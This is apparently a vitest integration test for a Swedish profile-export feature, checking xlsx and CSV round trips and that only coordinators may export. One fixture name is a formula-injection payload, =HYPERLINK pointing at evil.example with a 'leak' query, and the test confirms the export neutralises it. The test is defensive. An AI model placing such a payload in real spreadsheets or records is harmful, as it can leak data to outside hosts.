import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ImportPreview, Profile } from '@kraftsamling/shared';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { profileExportColumns } from '../../server/src/imports/profile-export';
import { createTestApp, type TestApp } from '../support/app';
import {
  createMobilisation,
  createOrganisation,
  getProfile,
  submitCompleteProfile,
} from '../support/fixtures';

let t: TestApp;
let m: string;
let typedIn: { organisationId: string; profileId: string };
const formulaName = '=HYPERLINK("http://evil.example/?leak","Ung Puls")';

beforeAll(async () => {
  t = await createTestApp();
  m = (await createMobilisation(t)).id;
  // Three organisations from a survey, and one typed in the app: a project with a period and goals, a need
  // with its own theme and target group, and a name a spreadsheet would take for a formula.
  const survey = readFileSync(join(import.meta.dirname, '../fixtures/imports/svar-excel-utf8.csv'));
  const imported = await t.request({
    method: 'POST',
    url: `/api/mobilisations/${m}/imports`,
    payload: { file: { name: 'svar.csv', data: survey.toString('base64') } },
  });
  expect(imported.statusCode, imported.body).toBe(200);
  const joined = await createOrganisation(t, m, { name: formulaName });
  await submitCompleteProfile(t, joined.profileId);
  typedIn = { organisationId: joined.organisation.id, profileId: joined.profileId };
});
afterAll(async () => {
  await t.close();
});

async function exported(format: 'xlsx' | 'csv') {
  const res = await t.request({
    method: 'GET',
    url: `/api/mobilisations/${m}/profiles/export?format=${format}`,
  });
  expect(res.statusCode).toBe(200);
  expect(res.headers['content-disposition']).toContain(`.${format}`);
  return res.rawPayload;
}
const file = (name: string, bytes: Buffer) => ({ name, data: bytes.toString('base64') });

async function preview(name: string, bytes: Buffer): Promise<ImportPreview> {
  const res = await t.request({
    method: 'POST',
    url: `/api/mobilisations/${m}/imports/preview`,
    payload: { file: file(name, bytes) },
  });
  expect(res.statusCode, res.body).toBe(200);
  return res.json();
}
async function importFile(name: string, bytes: Buffer) {
  const res = await t.request({
    method: 'POST',
    url: `/api/mobilisations/${m}/imports`,
    payload: { file: file(name, bytes) },
  });
  expect(res.statusCode, res.body).toBe(200);
  return res.json();
}
const revisions = async (profileId: string) => (await getProfile(t, profileId)).revisionCount;

describe('exporting every profile for a round trip through a spreadsheet', () => {
  it('writes xlsx that maps itself back, changes nothing unedited, and takes one edited cell as one update', async () => {
    const bytes = await exported('xlsx');
    const before: Profile = await getProfile(t, typedIn.profileId);

    const unedited = await preview('profiler.xlsx', bytes);
    expect(unedited.mapping.columns.map((c) => c.field)).toEqual(profileExportColumns.map((c) => c.field));
    expect(unedited.problems).toEqual([]);
    expect(unedited.counts).toEqual({ rows: 4, new: 0, updated: 0, unchanged: 4, withErrors: 0 });
    expect(await importFile('profiler.xlsx', bytes)).toMatchObject({
      counts: { unchanged: 4 },
      rematchQueued: false,
    });
    // The typed-in profile kept its ids, period, goals, themes and target groups: nothing was rewritten.
    const after = await getProfile(t, typedIn.profileId);
    expect(after.draft).toEqual(before.draft);
    expect(after.revisionCount).toBe(before.revisionCount);

    // The name went out neutralised (decision 010) and came back as the text it is.
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Profiler');
    if (!sheet) throw new Error('no sheet Profiler');
    const names: string[] = [];
    sheet.getColumn(1).eachCell((cell) => {
      names.push(String(cell.value));
    });
    expect(names).toContain(`'${formulaName}`);

    // One need edited in Excel: one organisation updated, the others untouched.
    let edited = false;
    sheet.eachRow((row, number) => {
      if (number > 1 && String(row.getCell(1).value) === `'${formulaName}`) {
        row.getCell(12).value =
          `${String(row.getCell(12).value)}\n• Vi behöver lokaler för träffar på kvällar.`;
        edited = true;
      }
    });
    expect(edited).toBe(true);
    const editedBytes = Buffer.from(await workbook.xlsx.writeBuffer());
    expect((await preview('profiler.xlsx', editedBytes)).counts).toMatchObject({ updated: 1, unchanged: 3 });
    expect(await importFile('profiler.xlsx', editedBytes)).toMatchObject({
      counts: { new: 0, updated: 1, unchanged: 3 },
      rematchQueued: true,
    });
    const updated = await getProfile(t, typedIn.profileId);
    expect(updated.latest?.content.needs.map((n) => n.text)).toEqual([
      ...(before.latest?.content.needs.map((n) => n.text) ?? []),
      'Vi behöver lokaler för träffar på kvällar.',
    ]);
    // The need that was there keeps its id and target groups.
    expect(updated.latest?.content.needs[0]).toEqual(before.latest?.content.needs[0]);
  });

  it('writes Swedish Excel CSV that round-trips the same way', async () => {
    const bytes = await exported('csv');
    const text = bytes.toString('utf8');
    expect(text.startsWith('\ufeffOrganisation;Organisationsnummer;Typ av organisation;')).toBe(true);
    expect(text).toContain(`"'${formulaName.replace(/"/g, '""')}"`);
    expect((await preview('profiler.csv', bytes)).counts).toMatchObject({ new: 0, updated: 0, unchanged: 4 });
    const profilesBefore = await revisions(typedIn.profileId);
    expect(await importFile('profiler.csv', bytes)).toMatchObject({ counts: { unchanged: 4 } });
    expect(await revisions(typedIn.profileId)).toBe(profilesBefore);

    const editedText = text.replace('Föreningen Gröna Bänken', 'Föreningen Gröna Bänken i Sundsvall');
    expect(editedText).not.toBe(text);
    expect(await importFile('profiler.csv', Buffer.from(editedText, 'utf8'))).toMatchObject({
      counts: { new: 0, updated: 1, unchanged: 3 },
    });
  });

  it('is for coordinators: a member of an organisation is refused', async () => {
    const member = await t.createActor([
      { mobilisationId: m, role: 'member', organisationId: typedIn.organisationId },
    ]);
    const res = await t.request({ method: 'GET', url: `/api/mobilisations/${m}/profiles/export` }, member);
    expect(res.statusCode).toBe(403);
    const coordinator = await t.createActor([{ mobilisationId: m, role: 'coordinator' }]);
    const allowed = await t.request(
      { method: 'GET', url: `/api/mobilisations/${m}/profiles/export?format=csv` },
      coordinator,
    );
    expect(allowed.statusCode).toBe(200);
  });
});
